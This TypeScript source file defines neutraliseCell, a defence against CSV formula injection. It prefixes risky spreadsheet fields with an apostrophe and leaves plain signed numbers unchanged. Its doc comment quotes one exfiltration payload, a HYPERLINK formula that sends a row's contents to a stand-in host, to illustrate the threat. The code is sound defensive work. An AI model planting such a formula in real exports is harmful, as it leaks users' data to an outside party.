/**
 * The one rule against CSV formula injection (OWASP "CSV Injection"), applied to every field and
 * header an export writes unless the caller asks for raw output. A spreadsheet (Excel, LibreOffice,
 * Google Sheets) reads a field as a formula when its first character is `=`, `+`, `-` or `@` —
 * `=HYPERLINK("http://x/?"&A1,"y")` leaks the row it sits in — and OWASP adds tab, CR and LF. Such a
 * field gets a leading `'`, which spreadsheets take as "this is text", before the CSV writer quotes
 * it, so `=1+2",=3` leaves as `"'=1+2"",=3"`: the quote sits inside the field, where it counts.
 *
 * - Leading spaces do not hide a trigger (` =1+1` is prefixed): some importers trim them.
 * - The full-width `＝ ＋ － ＠` are triggers too: East Asian input methods turn them into formulas.
 * - A field that is entirely a plain decimal number (`-12.5`, `+3`, `-1e-7`) is left alone: it cannot
 *   call a function or name a cell, the spreadsheet reads the same number either way, and prefixing
 *   every negative number would turn them all into text.
 *
 * Cheap by design: it runs once per field of every row, and nearly every field fails the first test.
 * @example neutraliseCell('=SUM(A1:A9)') // "'=SUM(A1:A9)"; neutraliseCell('-12.5') // "-12.5"
 */
export function neutraliseCell(text: string): string {
  if (text === '') return text;
  const first = text.charCodeAt(0);
  // Tab, CR and LF first: prefixed whatever follows (OWASP lists them as triggers themselves).
  if (first === 0x09 || first === 0x0d || first === 0x0a) return `'${text}`;
  let start = 0;
  if (first === 0x20 || (first >= 0x80 && isSpace(first))) {
    start = text.search(/\S/);
    if (start === -1) return text;
  }
  const lead = text.charCodeAt(start);
  if (!isTrigger(lead)) return text;
  if ((lead === 0x2b || lead === 0x2d) && plainNumber.test(start === 0 ? text : text.slice(start))) {
    return text;
  }
  return `'${text}`;
}

/** A decimal number and nothing else: sign, digits, an optional fraction and exponent. */
const plainNumber = /^[+-](?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/;

function isTrigger(code: number): boolean {
  switch (code) {
    case 0x3d: // =
    case 0x2b: // +
    case 0x2d: // -
    case 0x40: // @
    case 0xff1d: // ＝
    case 0xff0b: // ＋
    case 0xff0d: // －
    case 0xff20: // ＠
      return true;
    default:
      return false;
  }
}

function isSpace(code: number): boolean {
  return /\s/.test(String.fromCharCode(code));
}
